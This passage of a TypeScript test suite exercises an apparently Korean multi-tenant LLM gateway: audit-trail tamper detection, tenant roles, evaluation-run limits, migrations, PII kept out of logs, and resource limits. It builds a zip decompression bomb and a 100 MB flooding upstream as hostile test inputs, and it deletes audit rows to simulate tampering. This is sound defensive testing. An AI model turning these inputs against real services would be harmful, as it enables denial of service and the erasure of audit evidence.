    expect(await emptied.verify()).toMatchObject({ ok: false, records: 0 });
  });

  it('requires a checkpoint at least every 100 records: one removed fails even without the anchor', async () => {
    const { db, verify } = await trail(250);
    const middle = db.prepare('SELECT seq FROM audit_checkpoints ORDER BY seq LIMIT 1 OFFSET 1').get() as {
      seq: number;
    };
    db.prepare('DELETE FROM audit_checkpoints WHERE seq = ?').run(middle.seq);
    expect((await verify(false)).firstBad?.problem).toContain('no signed checkpoint');
  });

  it("reads one tenant's records out of a shared trail exactly: names LIKE would confuse are told apart", async () => {
    const server = await start();
    const { queryAudit, accessReview } = await import('../../src/app/audit.js');
    const month = new Date().toISOString().slice(0, 7);
    const write = (tenant: string, user: string) =>
      server.platform.ledger.write({
        audit: {
          time: new Date().toISOString(),
          kind: 'request',
          tenant,
          keyId: 'k',
          user,
          route: 'POST /v1/chat/completions',
          requestId: `${tenant}-${user}`,
          decision: 'allow',
          status: 200,
          outcome: 'ok',
          target: `"tenant":"a_b"`, // the same text inside another field
        },
      });
    for (const t of ['a_b', 'axb', 'A_B', 'a_b2']) for (const u of ['kim', 'Kim', 'k_m']) await write(t, u);
    const q = await queryAudit(server.platform, { tenant: 'a_b', limit: 100 });
    expect(q.map((r) => r.requestId).sort()).toEqual(['a_b-Kim', 'a_b-k_m', 'a_b-kim']);
    const u = await queryAudit(server.platform, { tenant: 'a_b', user: 'k_m', limit: 100 });
    expect(u.map((r) => r.requestId)).toEqual(['a_b-k_m']);
    const review = await accessReview(server.platform, month, 'a_b');
    expect(JSON.stringify(review)).toContain('a_b');
    expect(JSON.stringify(review)).not.toContain('axb');
  });

  it('verifies and reads a trail of 200,000 records, the event loop taking turns throughout', async () => {
    const server = await createServer(
      resolveConfig({
        dataDir: mkdtempSync(join(tmpdir(), 'jugwon-long-trail-')),
        store: { durability: 'normal' },
      }),
      { logger: false },
    );
    servers.push(server);
    const n = 200_000;
    for (let i = 0; i < n; i += 5_000)
      await Promise.all(
        Array.from({ length: 5_000 }, (_, j) =>
          server.platform.ledger.write({
            audit: {
              time: new Date().toISOString(),
              kind: 'request',
              tenant: (i + j) % 1_000 === 0 ? 'small' : 'big',
              keyId: null,
              route: 'POST /v1/chat/completions',
              decision: 'allow',
              status: 200,
              outcome: 'ok',
            },
          }),
        ),
      );
    const { verifyTrail, queryAudit } = await import('../../src/app/audit.js');
    /** Runs `work`, counting the turns the event loop takes meanwhile and its longest stall. */
    const turnsDuring = async <T>(work: () => Promise<T>) => {
      let turns = 0;
      let last = performance.now();
      let stall = 0;
      let running = true;
      const tick = () => {
        const now = performance.now();
        stall = Math.max(stall, now - last);
        last = now;
        turns++;
        if (running) setImmediate(tick);
      };
      setImmediate(tick);
      const result = await work();
      running = false;
      await new Promise((r) => setImmediate(r));
      return { result, turns, stall };
    };
    // The check used to spread every record's number into Math.max: past ~120,000 records it threw.
    const verified = await turnsDuring(() => verifyTrail(server.platform));
    expect(verified.result).toMatchObject({ ok: true, records: n, unsignedTail: 0 });
    // …and it ran in one stretch of the event loop (1.4 s here): now a page at a time.
    expect(verified.turns).toBeGreaterThan(n / 1_000);
    expect(verified.stall).toBeLessThan(500);
    // A filter no record matches: one statement used to read the whole trail.
    const none = await turnsDuring(() => queryAudit(server.platform, { user: 'nobody', limit: 10 }));
    expect(none.result).toEqual([]);
    expect(none.turns).toBeGreaterThan(n / 1_000);
    // One tenant's records are read by the store's index: the other tenant's are never read (a
    // page, no turn of the loop needed), where they were all read and skipped.
    const small = await turnsDuring(() => queryAudit(server.platform, { tenant: 'small', limit: 1_000 }));
    expect(small.result).toHaveLength(n / 1_000);
    expect(small.result.every((r) => r.tenant === 'small')).toBe(true);
    expect(small.turns).toBeLessThan(5);
    const nobody = await turnsDuring(() => queryAudit(server.platform, { tenant: 'nobody', limit: 10 }));
    expect(nobody.result).toEqual([]);
    expect(nobody.turns).toBeLessThan(5);
    // A period: only its records are read (all 200,000 are older than this one).
    const { accessReview } = await import('../../src/app/audit.js');
    const later = '2099-01-15T09:00:00.000Z';
    for (const tenant of ['big', 'small'])
      await server.platform.ledger.write({
        audit: {
          time: later,
          kind: 'request',
          tenant,
          keyId: null,
          route: 'POST /v1/chat/completions',
          decision: 'allow',
          status: 200,
          outcome: 'ok',
        },
      });
    const since = await turnsDuring(() => queryAudit(server.platform, { from: '2099-01-01', limit: 1_000 }));
    expect(since.result.map((r) => [r.tenant, r.time])).toEqual([
      ['small', later],
      ['big', later],
    ]);
    expect(since.turns).toBeLessThan(5);
    await accessReview(server.platform, '2098-12'); // loads the report's module first (turns of its own)
    const month = await turnsDuring(() => accessReview(server.platform, '2099-01'));
    expect(month.result.records).toBe(2);
    expect(month.turns).toBeLessThan(5);
    // An export of that month, in the chain's order: only the sequence numbers it spans are read.
    const { exportTrail } = await import('../../src/app/audit.js');
    const exported = await turnsDuring(async () => {
      const lines: string[] = [];
      for await (const l of exportTrail(server.platform, {
        from: '2099-01-01',
        to: '2099-01-31',
        format: 'jsonl',
      }))
        lines.push(l);
      return lines.map((l) => JSON.parse(l) as { seq: number; time: string });
    });
    expect(exported.result.map((r) => [r.seq, r.time])).toEqual([
      [n + 1, later],
      [n + 2, later],
    ]);
    expect(exported.turns).toBeLessThan(5);
    const before = await turnsDuring(() => queryAudit(server.platform, { to: '2000-01-01', limit: 10 }));
    expect(before.result).toEqual([]);
    expect(before.turns).toBeLessThan(5);
  }, 120_000);

  it('verifications asked for at once share one reading of the trail', async () => {
    const server = await start();
    const { verifyTrail } = await import('../../src/app/audit.js');
    const results = await Promise.all(Array.from({ length: 20 }, () => verifyTrail(server.platform)));
    // One result for all twenty (each used to read and hash the whole trail on its own).
    expect(new Set(results).size).toBe(1);
    expect(results[0]?.ok).toBe(true);
    // A later request verifies again, seeing what was written since.
    expect(await verifyTrail(server.platform)).not.toBe(results[0]);
  });

  it('never signs a chain that no longer verifies', async () => {
    const { db, server, rewriteFrom } = await trail(120);
    rewriteFrom(110);
    const before = (db.prepare('SELECT COUNT(*) AS n FROM audit_checkpoints').get() as { n: number }).n;
    const anchoredBefore = server.platform.anchor.read().length;
    await server.platform.ledger.checkpoint(); // what the next minute, shutdown or CLI command would do
    for (let i = 0; i < 100; i++)
      await server.platform.ledger.write({
        audit: {
          time: new Date().toISOString(),
          kind: 'request',
          tenant: 't',
          keyId: null,
          route: 'later',
          decision: 'allow',
          status: 200,
          outcome: 'ok',
        },
      });
    expect((db.prepare('SELECT COUNT(*) AS n FROM audit_checkpoints').get() as { n: number }).n).toBe(before);
    expect(server.platform.anchor.read().length).toBe(anchoredBefore);
  });
});

describe('roles per tenant', () => {
  it("a tenant's admin manages its own tenant only; compliance reads its own tenant's trail; runs stay in their tenant", async () => {
    const { startMockUpstream } = await import('../support/mock-upstream.js');
    const upstream = await startMockUpstream({ reply: () => '정답은 (A)입니다.' });
    try {
      const dataDir = withMiniSuite('jugwon-roles-');
      const server = await createServer(
        resolveConfig({
          dataDir,
          models: [{ id: 'home', provider: 'openai-compatible', baseUrl: upstream.url, residency: 'onprem' }],
        }),
        { logger: false },
      );
      servers.push(server);
      for (const t of ['bank-a', 'bank-b']) await createTenant(server.store.db, t);
      const key = async (tenant: string, role: 'admin' | 'compliance' | 'operator' | 'member') => ({
        authorization: `Bearer ${(await createApiKey(server.store.db, tenant, { role })).key}`,
      });
      const adminA = await key('bank-a', 'admin');
      const officerA = await key('bank-a', 'compliance');
      const officerB = await key('bank-b', 'compliance');
      const call = (
        headers: Record<string, string>,
        method: 'GET' | 'POST' | 'DELETE',
        url: string,
        payload?: object,
      ) => server.app.inject({ method, url, headers, ...(payload ? { payload } : {}) });

      // Its own tenant: yes. Another tenant's keys and users: no. Tenants themselves: the operator's.
      expect((await call(adminA, 'POST', '/api/keys', { tenant: 'bank-a' })).statusCode).toBe(200);
      expect((await call(adminA, 'POST', '/api/keys', { tenant: 'bank-b' })).statusCode).toBe(403);
      expect((await call(adminA, 'POST', '/api/users', { tenant: 'bank-b', name: 'x' })).statusCode).toBe(
        403,
      );
      expect((await call(adminA, 'POST', '/api/tenants', { name: 'bank-c' })).statusCode).toBe(403);
      expect(
        (await call(adminA, 'POST', '/api/keys', { tenant: 'bank-a', role: 'operator' })).statusCode,
      ).toBe(403);
      const bKey = (
        await call(await key('bank-b', 'admin'), 'POST', '/api/keys', { tenant: 'bank-b' })
      ).json().id;
      expect((await call(adminA, 'DELETE', `/api/keys/${bKey}`)).statusCode).toBe(404);
      const keys = (await call(adminA, 'GET', '/api/keys')).json().data as { tenant: string }[];
      expect(new Set(keys.map((k) => k.tenant))).toEqual(new Set(['bank-a']));
      expect((await call(adminA, 'GET', '/metrics')).statusCode).toBe(403);

      // Compliance reads its own tenant's trail, and cannot ask for another's.
      const trail = (await call(officerA, 'GET', '/api/audit')).json().data as { tenant: string }[];
      expect(trail.length).toBeGreaterThan(0);
      expect(new Set(trail.map((r) => r.tenant))).toEqual(new Set(['bank-a']));
      expect((await call(officerA, 'GET', '/api/audit?tenant=bank-b')).statusCode).toBe(403);

      // An evaluation run stays in its tenant, and shows no server path.
      expect(
        (await call(officerA, 'POST', '/api/eval-jobs', { suite: 'mini.jsonl', models: ['home'] }))
          .statusCode,
      ).toBe(200);
      for (let i = 0; i < 100; i++) {
        const jobs = (await call(officerA, 'GET', '/api/eval-jobs')).json().data as { state: string }[];
        if (jobs[0]?.state !== 'running') break;
        await new Promise((r) => setTimeout(r, 50));
      }
      const runs = (await call(officerA, 'GET', '/api/evals')).json().data as { runId: string }[];
      expect(runs).toHaveLength(1);
      expect(JSON.stringify(runs)).not.toContain(dataDir);
      expect((await call(officerB, 'GET', '/api/evals')).json().data).toEqual([]);
      expect((await call(officerB, 'GET', `/api/evals/${runs[0]?.runId}`)).statusCode).toBe(404);
      expect((await call(officerB, 'GET', '/api/eval-jobs')).json().data).toEqual([]);
    } finally {
      await upstream.close();
    }
  });
});

describe('evaluation runs started from the console', () => {
  it('at most 2 of a tenant and 6 of the server run at once; the next is refused with 429 JG_EVAL_BUSY', async () => {
    const { startMockUpstream } = await import('../support/mock-upstream.js');
    // A slow model: the runs are still in progress while the next ones are asked for.
    const upstream = await startMockUpstream({ reply: () => '정답은 (A)입니다.', latencyMs: 1_500 });
    try {
      const dataDir = withMiniSuite('jugwon-eval-busy-');
      const model = (id: string) => ({
        id,
        provider: 'openai-compatible',
        baseUrl: upstream.url,
        residency: 'onprem',
      });
      const server = await createServer(resolveConfig({ dataDir, models: [model('m1'), model('m2')] }), {
        logger: false,
      });
      servers.push(server);
      const start = async (tenant: string, models: string[]) => {
        if (
          !(await server.store.db
            .selectFrom('tenants')
            .select('id')
            .where('name', '=', tenant)
            .executeTakeFirst())
        )
          await createTenant(server.store.db, tenant);
        const { key } = await createApiKey(server.store.db, tenant, { role: 'admin' });
        const res = await server.app.inject({
          method: 'POST',
          url: '/api/eval-jobs',
          headers: { authorization: `Bearer ${key}` },
          payload: { suite: 'mini.jsonl', models },
        });
        return [res.statusCode, res.json().error?.code ?? 'started'];
      };
      // Three different runs of one tenant (the same models in another order was another run).
      expect(await start('t1', ['m1'])).toEqual([200, 'started']);
      expect(await start('t1', ['m2', 'm1'])).toEqual([200, 'started']);
      expect(await start('t1', ['m1', 'm2'])).toEqual([429, 'JG_EVAL_BUSY']);
      // Other tenants still may, until the server runs six.
      for (const t of ['t2', 't3']) {
        expect(await start(t, ['m1'])).toEqual([200, 'started']);
        expect(await start(t, ['m2'])).toEqual([200, 'started']);
      }
      expect(await start('t4', ['m1'])).toEqual([429, 'JG_EVAL_BUSY']);
      // Once they finish, new runs start again (each as soon as a run of the six ends).
      const startWhenFree = async (models: string[]) => {
        let r = await start('t4', models);
        for (let i = 0; i < 200 && r[0] !== 200; i++) {
          expect(r).toEqual([429, 'JG_EVAL_BUSY']);
          await new Promise((done) => setTimeout(done, 50));
          r = await start('t4', models);
        }
        return r;
      };
      expect(await startWhenFree(['m1'])).toEqual([200, 'started']);
      expect(await startWhenFree(['m2'])).toEqual([200, 'started']);
      // The last runs finish before the server closes.
      await createTenant(server.store.db, 'admin');
      const operator = `Bearer ${(await createApiKey(server.store.db, 'admin', { role: 'operator' })).key}`;
      for (let i = 0; i < 200; i++) {
        const jobs = (
          await server.app.inject({
            method: 'GET',
            url: '/api/eval-jobs',
            headers: { authorization: operator },
          })
        ).json().data as { state: string }[];
        expect(jobs.length).toBeGreaterThanOrEqual(8);
        if (jobs.every((j) => j.state !== 'running')) break;
        await new Promise((r) => setTimeout(r, 50));
      }
    } finally {
      await upstream.close();
    }
  }, 30_000);
});

describe('roles after an upgrade', () => {
  it("the 'admin' tenant's administrators become the platform's operators; other tenants' admins stay tenant admins", async () => {
    const { openStore } = await import('../../src/store/open.js');
    const dataDir = mkdtempSync(join(tmpdir(), 'jugwon-migrate-'));
    let store = await openStore(dataDir);
    await createTenant(store.db, 'admin');
    await createTenant(store.db, 'bank');
    const platformKey = await createApiKey(store.db, 'admin', { role: 'operator' });
    const bankKey = await createApiKey(store.db, 'bank', { role: 'admin' });
    // A record written before the audit trail's tenant column existed.
    sqliteOf(store)
      .prepare("INSERT INTO audit_log (record, prev_hash, hash) VALUES (?, 'p', 'h')")
      .run('{"tenant":"bank","time":"2026-01-01T00:00:00.000Z"}');
    // As an install from before roles per tenant had it: role 'admin' in both, migration not yet run.
    sqliteOf(store).prepare("UPDATE api_keys SET role = 'admin'").run();
    // Undo the migrations from 0005 on, as if they had never run.
    sqliteOf(store).prepare("DELETE FROM kysely_migration WHERE name >= '0005'").run();
    sqliteOf(store).exec(
      'ALTER TABLE tenants DROP COLUMN upload_bytes; ALTER TABLE tenants DROP COLUMN ingest_bytes_per_day; ALTER TABLE tenants DROP COLUMN share; ALTER TABLE tenants DROP COLUMN ai_label; ALTER TABLE tenants DROP COLUMN data_class; ALTER TABLE tenants DROP COLUMN pseudonyms; ALTER TABLE retained_requests DROP COLUMN tenant; ALTER TABLE users DROP COLUMN sso_subject; DROP TABLE conversations; DROP INDEX retained_requests_created; DROP INDEX sessions_user; DROP INDEX audit_log_time; DROP INDEX audit_log_tenant_time; ALTER TABLE audit_log DROP COLUMN tenant; ALTER TABLE audit_log DROP COLUMN time',
    );
    await store.close();
    store = await openStore(dataDir);
    const roles = sqliteOf(store).prepare('SELECT id, role FROM api_keys ORDER BY id').all() as {
      id: string;
      role: string;
    }[];
    expect(Object.fromEntries(roles.map((r) => [r.id, r.role]))).toEqual({
      [platformKey.id]: 'operator',
      [bankKey.id]: 'admin',
    });
    // The column the upgrade adds is read from each record, the earlier ones too.
    expect(sqliteOf(store).prepare('SELECT tenant, time FROM audit_log').all()).toEqual([
      { tenant: 'bank', time: '2026-01-01T00:00:00.000Z' },
    ]);
    await store.close();
  });
});
describe('the server log', () => {
  it('holds no personal data from an upstream error or an unexpected exception', async () => {
    const { createServer: createHttpServer } = await import('node:http');
    // An on-premises model server that echoes the prompt in its error, as some do.
    const upstream = createHttpServer((req, res) => {
      let body = '';
      req.on('data', (d) => {
        body += d;
      });
      req.on('end', () => {
        const prompt = (JSON.parse(body || '{}') as { messages?: { content: string }[] }).messages?.[0]
          ?.content;
        res.writeHead(400, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ error: { message: `cannot process: ${prompt}` } }));
      });
    });
    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', () => r()));
    const lines: string[] = [];
    try {
      const server = await serverWithModel(
        {
          id: 'home',
          baseUrl: `http://127.0.0.1:${(upstream.address() as { port: number }).port}/v1`,
          residency: 'onprem',
        },
        {},
        { logger: { level: 'info', stream: { write: (l: string) => void lines.push(l) } } },
      );
      server.app.get('/boom', async () => {
        throw new Error('lookup failed for 주민등록번호 900101-1234568');
      });
      await createTenant(server.store.db, 'bank');
      const { key } = await createApiKey(server.store.db, 'bank');
      const chat = await server.app.inject({
        method: 'POST',
        url: '/v1/chat/completions',
        headers: { authorization: `Bearer ${key}` },
        payload: {
          model: 'home',
          messages: [{ role: 'user', content: '김민준 고객 010-2345-6789 상담 요약' }],
        },
      });
      expect([chat.statusCode, chat.json().error.code]).toEqual([502, 'JG_UPSTREAM_ERROR']);
      expect((await server.app.inject({ method: 'GET', url: '/boom' })).json().error.code).toBe(
        'JG_INTERNAL',
      );
      const log = lines.join('');
      expect(log).toContain('JG_UPSTREAM_ERROR');
      expect(log).toContain('unexpected error');
      for (const value of ['010-2345-6789', '2345-6789', '900101-1234568', '1234568'])
        expect(log.includes(value)).toBe(false);
    } finally {
      await new Promise((r) => upstream.close(r));
    }
  });
});

describe('a full disk', () => {
  it('refuses requests with 507 JG_STORE_FULL while nothing can be recorded, and takes them once there is room', async () => {
    const { server, upstream } = await serverWithUpstream('domestic');
    try {
      await createTenant(server.store.db, 'bank');
      const { key } = await createApiKey(server.store.db, 'bank');
      const chat = () =>
        server.app.inject({
          method: 'POST',
          url: '/v1/chat/completions',
          headers: { authorization: `Bearer ${key}` },
          payload: { model: 'abroad', messages: [{ role: 'user', content: '금리 안내' }] },
        });
      expect((await chat()).statusCode).toBe(200);
      // The database may grow no further, as on a full disk (SQLite then fails with SQLITE_FULL).
      const db = sqliteOf(server.store);
      const pages = db.pragma('page_count', { simple: true }) as number;
      db.pragma(`max_page_count = ${pages}`);
      let full: Awaited<ReturnType<typeof chat>> | undefined;
      for (let i = 0; i < 200 && full?.statusCode !== 507; i++) full = await chat();
      expect([full?.statusCode, full?.json().error.code]).toEqual([507, 'JG_STORE_FULL']);
      db.pragma('max_page_count = 1073741823');
      expect((await chat()).statusCode).toBe(200);
    } finally {
      await upstream.close();
    }
  });
});

describe('the data folder on a shared machine', () => {
  it('is created readable by its user only, with the database inside it', async () => {
    const { statSync } = await import('node:fs');
    const parent = mkdtempSync(join(tmpdir(), 'jugwon-private-'));
    const dataDir = join(parent, 'var', 'jugwon'); // folders that do not exist yet
    const server = await createServer(resolveConfig({ dataDir }), { logger: false });
    servers.push(server);
    // The database holds password and key hashes and the audit trail; the folder, documents and
    // eval answers: other local users read them all (0755 and 0644 under the usual umask).
    expect(statSync(join(parent, 'var')).mode & 0o777).toBe(0o700);
    expect(statSync(dataDir).mode & 0o777).toBe(0o700);
    expect(statSync(join(dataDir, 'jugwon.db')).mode & 0o077).toBe(0);
  });
});

describe('a rolling upgrade', () => {
  it('a replica of the earlier version starts on a store a later release migrated; a store of another line is refused clearly', async () => {
    const { openStore } = await import('../../src/store/open.js');
    const dataDir = mkdtempSync(join(tmpdir(), 'jugwon-rolling-'));
    let store = await openStore(dataDir);
    await createTenant(store.db, 'bank');
    // What a later release leaves: one migration more than this version knows.
    const at = new Date().toISOString();
    sqliteOf(store)
      .prepare('INSERT INTO kysely_migration (name, timestamp) VALUES (?, ?)')
      .run('9999-later', at);
    await store.close();
    // It was "corrupted migrations" (JG_INTERNAL): a restarting replica of the earlier version could not start.
    store = await openStore(dataDir);
    await createTenant(store.db, 'card');
    expect(
      (await store.db.selectFrom('tenants').select('name').orderBy('name').execute()).map((t) => t.name),
    ).toEqual(['bank', 'card']);
    // A store that lacks one of this version's migrations as well was migrated by another line.
    sqliteOf(store).prepare("DELETE FROM kysely_migration WHERE name = '0016-expiry-indexes'").run();
    await store.close();
    await expect(openStore(dataDir)).rejects.toMatchObject({ code: 'JG_STORE_NEWER' });
  });
});

describe('an upstream that never stops answering', () => {
  it('fails the call past 64 MB instead of reading the answer into memory; the node is not trusted', async () => {
    const { createServer: createHttpServer } = await import('node:http');
    let sent = 0;
    // A valid chat answer of ~100 MB, written a megabyte at a time while the reader keeps up.
    const node = createHttpServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write(
        '{"id":"x","object":"chat.completion","choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":"',
      );
      const mb = '가'.repeat(349_525); // ~1 MB of UTF-8
      const more = () => {
        while (sent < 100 && !res.destroyed) {
          sent++;
          if (!res.write(mb)) return void res.once('drain', more);
        }
        if (!res.destroyed)
          res.end('"}}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}');
      };
      more();
    });
    await new Promise<void>((r) => node.listen(0, '127.0.0.1', r));
    const port = (node.address() as { port: number }).port;
    const server = await serverWithModel({
      id: 'node',
      baseUrl: `http://127.0.0.1:${port}/v1`,
      residency: 'onprem',
      retries: 0,
    });
    try {
      const res = await server.app.inject({
        method: 'POST',
        url: '/v1/chat/completions',
        payload: { model: 'node', messages: [{ role: 'user', content: '안녕하세요' }] },
      });
      expect([res.statusCode, res.json().error.code]).toEqual([502, 'JG_UPSTREAM_ERROR']);
      expect(res.json().error.message).toContain('longer than 64 MB');
      expect(sent).toBeLessThan(100); // it stopped reading
    } finally {
      node.closeAllConnections();
      await new Promise((r) => node.close(r));
    }
  });
});

describe('one request cannot stop the service', () => {
  async function loopDelayDuring(work: () => Promise<unknown>): Promise<number> {
    const delay = monitorEventLoopDelay({ resolution: 5 });
    delay.enable();
    await work();
    delay.disable();
    return delay.max / 1e6;
  }

  /**
   * A 4 MB request carrying 300,000 values of personal data, sent while /healthz is asked 20 times:
   * the answer, how many health checks were answered, and the longest the event loop was held.
   */
  async function fourMegabytesWithProbes(privacy: Record<string, unknown>) {
    const { server, upstream } = await serverWithUpstream('domestic', {
      server: { bodyLimitBytes: 16 * 1024 * 1024 },
      privacy,
    });
    const content = '국민은행 계좌 123456-12-123456 김민준님 010-1234-5678 '.repeat(100_000); // ~4 MB of UTF-8
    let health = 0;
    let res: Awaited<ReturnType<typeof server.app.inject>> | undefined;
    const max = await loopDelayDuring(async () => {
      const big = server.app.inject({
        method: 'POST',
        url: '/v1/chat/completions',
        payload: { model: 'abroad', messages: [{ role: 'user', content }] },
      });
      const probes = (async () => {
        for (let i = 0; i < 20; i++) {
          if ((await server.app.inject({ method: 'GET', url: '/healthz' })).statusCode === 200) health++;
          await new Promise((r) => setTimeout(r, 20));
        }
      })();
      [res] = await Promise.all([big, probes]);
    });
    return { server, upstream, content, res: res as NonNullable<typeof res>, health, max };
  }

  it('refuses a request holding more personal data than privacy.maxFindings, found off the event loop', async () => {
    const { server, upstream, content, res, health, max } = await fourMegabytesWithProbes({});
    try {
      expect([res.statusCode, res.json().error.code]).toEqual([413, 'JG_TOO_MANY_FINDINGS']);
      expect(res.json().error.message).toContain('20000');
      expect(res.body).not.toContain('010-1234-5678');
      expect(health).toBe(20);
      expect(upstream.received).toHaveLength(0);
      // The values were counted in the worker and never sent back to be read here.
      expect(max).toBeLessThan(400);
      // Under the limit the same text is served: 6,000 values.
      const smaller = await server.app.inject({
        method: 'POST',
        url: '/v1/chat/completions',
        payload: { model: 'abroad', messages: [{ role: 'user', content: content.slice(0, 2000 * 40) }] },
      });
      expect(smaller.statusCode).toBe(200);
      expect(Number(smaller.headers['x-jugwon-pii-masked'])).toBeGreaterThan(5000);
    } finally {
      await upstream.close();
    }
  }, 120_000);

  it('scans a 4 MB request off the event loop when the limit is raised: the server keeps answering meanwhile', async () => {
    const { upstream, res, health, max } = await fourMegabytesWithProbes({ maxFindings: 1_000_000 });
    try {
      expect(res.statusCode).toBe(200);
      expect(res.headers['x-jugwon-pii-masked']).toBe('300000');
      expect(health).toBe(20);
      // Was: minutes (the quadratic recogniser, on the loop). Detection runs in a worker; JSON,
      // masking and restoring 300,000 stand-ins still run here (~0.45 s measured): the reason for
      // privacy.maxFindings, which an administrator raising it accepts. (1.6 s measured once with
      // every test file running beside it on two cores.)
      expect(max).toBeLessThan(3000);
    } finally {
      await upstream.close();
    }
  }, 120_000);

  it('serves a request of 19,000 distinct values in as many messages without holding the event loop', async () => {
    const { server, upstream } = await serverWithUpstream('domestic');
    try {
      const messages = distinctPhones(19_000).map((content) => ({ role: 'user', content }));
      let res: Awaited<ReturnType<typeof server.app.inject>> | undefined;
      const max = await loopDelayDuring(async () => {
        res = await server.app.inject({
          method: 'POST',
          url: '/v1/chat/completions',
          payload: { model: 'abroad', messages },
        });
      });
      expect(res?.statusCode).toBe(200);
      expect(res?.headers['x-jugwon-pii-masked']).toBe('19000');
      expect(JSON.stringify(upstream.received)).not.toMatch(/010-\d{4}-\d{4}/);
      // Was ~9 s: each new stand-in looked for in the whole request, each finding of the joined
      // messages matched against every message.
      expect(max).toBeLessThan(1500);
    } finally {
      await upstream.close();
    }
  }, 120_000);

  it('indexes a large upload without holding the event loop: its analysis lets requests in between', async () => {
    const server = await start();
    const key = (await createApiKey(server.store.db, 'bank', { role: 'admin' })).key;
    // ~1 MB of Korean text: analysing it for the index takes seconds of CPU.
    const body = Array.from(
      { length: 6_000 },
      (_, i) => `제${i}조(목적) 이 규정은 대출 금리와 상환 일정을 정하고, 신청인은 서류를 제출한다.`,
    ).join('\n');
    let res: Awaited<ReturnType<typeof server.app.inject>> | undefined;
    const max = await loopDelayDuring(async () => {
      res = await putDocument(server, key, 'big', '규정.md', body);
    });
    expect(res?.statusCode).toBe(200);
    expect(res?.json().chunks).toBeGreaterThan(500);
    // Was ~0.55 s: the analyser's dictionary loaded by the first upload (now when the server
    // starts), then the rows analysed and converted for the index in one go (now in slices).
    expect(max).toBeLessThan(300);
  }, 120_000);

  it('searches with a question of megabytes without holding the event loop (search and grounded chat)', async () => {
    const { server, upstream } = await serverWithUpstream('domestic');
    try {
      await createTenant(server.store.db, 'bank');
      const key = (await createApiKey(server.store.db, 'bank', { role: 'admin' })).key;
      await seedCollection(server.platform.config.dataDir, 'rules', [
        { docId: 'd1', source: 'r.md', title: '대출 규정', markdown: '제1조 대출 금리는 연 5%이다.' },
      ]);
      const { writeSettings } = await import('../../src/knowledge/settings.js');
      writeSettings(server.platform.config.dataDir, { rules: { tenant: 'bank' } });
      // ~2.4 M characters of distinct Korean words (7 MB): analysing all of it held the loop ~4 s.
      let question = '';
      for (let i = 0; question.length < 2_400_000; i++)
        question += `대출${String.fromCharCode(0xac00 + (i % 11172))}${String.fromCharCode(0xac00 + Math.floor(i / 11172))} `;
      const headers = { authorization: `Bearer ${key}` };
      for (const ask of [
        () =>
          server.app.inject({
            method: 'POST',
            url: '/api/collections/rules/search',
            headers,
            payload: { query: `${question} 금리` },
          }),
        () =>
          server.app.inject({
            method: 'POST',
            url: '/v1/chat/completions',
            headers,
            payload: {
              model: 'abroad',
              messages: [{ role: 'user', content: question }],
              jugwon: { collection: 'rules' },
            },
          }),
      ]) {
        let res: Awaited<ReturnType<typeof server.app.inject>> | undefined;
        const max = await loopDelayDuring(async () => {
          res = await ask();
        });
        expect(res?.statusCode).toBe(200);
        expect(max).toBeLessThan(1_500);
      }
    } finally {
      await upstream.close();
    }
  }, 120_000);

  it('refuses a document that would inflate far past its size, reading it in a worker', async () => {
    const { zipSync, strToU8 } = await import('fflate');
    const server = await start();
    const admin = (await createApiKey(server.store.db, 'bank', { role: 'admin' })).key;
    // 100 MB of section XML in a ~100 KB file.
    const bomb = zipSync(
      {
        mimetype: strToU8('application/hwp+zip'),
        'Contents/section0.xml': new Uint8Array(100 * 1024 * 1024).fill(0x20),
      },
      { level: 9 },
    );
    expect(bomb.length).toBeLessThan(1024 * 1024);
    let res: Awaited<ReturnType<typeof server.app.inject>> | undefined;
    const max = await loopDelayDuring(async () => {
      res = await putDocument(server, admin, 'docs', 'bomb.hwpx', bomb);
    });
    expect([res?.statusCode, res?.json().error.code]).toEqual([422, 'JG_PARSE_FAILED']);
    expect(max).toBeLessThan(200);
    expect((await server.app.inject({ method: 'GET', url: '/healthz' })).statusCode).toBe(200);
  }, 60_000);
});

describe('per-tenant upload limits', () => {
  it("refuses a document over the tenant's size limit, and uploads past its daily ingest budget", async () => {
    const server = await start();
    const { updateTenantAs } = await import('../../src/app/admin.js');
    const { operator } = await import('../../src/cli/platform.js');
    await updateTenantAs(server.platform, { principal: operator(), route: 'test' }, 'bank', {
      uploadBytes: 2000,
      ingestBytesPerDay: 3000,
    });
    const key = (await createApiKey(server.store.db, 'bank')).key;
    const upload = (name: string, bytes: number) =>
      putDocument(server, key, 'limits', name, `# 규정\n\n${'가'.repeat(Math.floor((bytes - 12) / 3))}`);
    const big = await upload('big.md', 2500);
    expect([big.statusCode, big.json().error.code]).toEqual([413, 'JG_INPUT_TOO_LARGE']);
    expect((await upload('a.md', 1500)).statusCode).toBe(200);
    expect((await upload('b.md', 1400)).statusCode).toBe(200);
    const over = await upload('c.md', 1000);
    expect([over.statusCode, over.json().error.code]).toEqual([429, 'JG_INGEST_QUOTA_EXCEEDED']);
    expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
  });

  it('refuses a new collection past the most a tenant may own, before charging anything', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'jugwon-collection-limit-'));
    const server = await createServer(resolveConfig({ dataDir, knowledge: { maxCollectionsPerTenant: 2 } }), {
      logger: false,
    });
    servers.push(server);
    await createTenant(server.store.db, 'bank', { ingestBytesPerDay: 1_000_000 });
    await createTenant(server.store.db, 'card');
    const text = '제1조 대출 금리는 연 5%이다.';
    const upload = async (tenant: string, collection: string) => {
      const { key } = await createApiKey(server.store.db, tenant, { role: 'admin' });
      const res = await putDocument(server, key, collection, 'a.md', text);
      return [res.statusCode, res.json().error?.code ?? 'ok'];
    };
    expect(await upload('bank', 'b1')).toEqual([200, 'ok']);
    expect(await upload('bank', 'b2')).toEqual([200, 'ok']);
    // Uploads to ever new names made ever more tables and settings entries.
    expect(await upload('bank', 'b3')).toEqual([403, 'JG_COLLECTION_LIMIT']);
    expect(await upload('bank', 'b2')).toEqual([200, 'ok']); // an existing one still takes documents
    expect(await upload('card', 'c1')).toEqual([200, 'ok']); // another tenant has its own count
    // Three new collections asked for at once with one place left: one is made.
    const raced = await Promise.all(['c2', 'c3', 'c4'].map((c) => upload('card', c)));
    expect(raced.filter(([status]) => status === 200)).toHaveLength(1);
